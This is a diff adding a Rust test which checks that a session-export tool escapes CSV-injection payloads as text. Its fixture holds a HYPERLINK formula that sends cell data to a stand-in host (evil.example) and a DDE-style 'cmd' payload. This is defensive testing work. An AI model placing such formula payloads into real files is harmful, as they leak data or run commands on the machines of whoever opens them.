@@ -155,6 +155,61 @@ fn csv_has_one_row_per_event_with_stable_columns_and_rfc_4180_quoting() {
     assert!(by_type("session_start")[col("time")].ends_with('Z'));
 }
 
+/// A prompt or command that a spreadsheet would run as a formula (CSV injection) is written as
+/// text, with a `'` before it; numbers, negative ones too, stay numbers; a file written with
+/// `--output` holds the session's bytes as they are (an ESC included), only quoted. Before, the
+/// cells were written as recorded, and `=HYPERLINK(…)` ran when the file was opened.
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_kept_text() {
+    let env = TestEnv::new();
+    let id = SessionBuilder::new("sess-formula")
+        .meta(|m| m.agent_name = "claude-code".into())
+        .prompt("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
+        .at(1.0)
+        .tool_call("Bash", json!({"command": "-rf /tmp/x"}))
+        .at(2.0)
+        .tool_call("Bash", json!({"command": "@SUM(1+1)*cmd|' /C calc'!A0"}))
+        .at(3.0)
+        .answer("+1 \u{1b}[31mred")
+        .write(&env);
+    let path = env.path().join("events.csv");
+    export(
+        &env,
+        &[&id, "--format", "csv", "--output", path.to_str().unwrap()],
+    )
+    .success();
+    let text = std::fs::read_to_string(&path).unwrap();
+    let rows = parse_csv(&text);
+    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let cells: Vec<&str> = rows[1..]
+        .iter()
+        .flat_map(|r| [r[col("text")].as_str(), r[col("command")].as_str()])
+        .filter(|c| !c.is_empty())
+        .collect();
+    assert_eq!(
+        cells,
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "'-rf /tmp/x",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'+1 \u{1b}[31mred",
+        ],
+        "{text}"
+    );
+    // No cell of the file starts with what a spreadsheet runs, quoted or not.
+    for row in &rows {
+        for cell in row {
+            let runs =
+                cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
+            assert!(!runs, "{cell:?} in {text}");
+        }
+    }
+    assert!(
+        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"),
+        "quoted, with its quotes doubled: {text}"
+    );
+}
+
 /// The spans of an OTLP/JSON export, by name.
 fn spans(export: &Value) -> Vec<Value> {
     export["resourceSpans"]
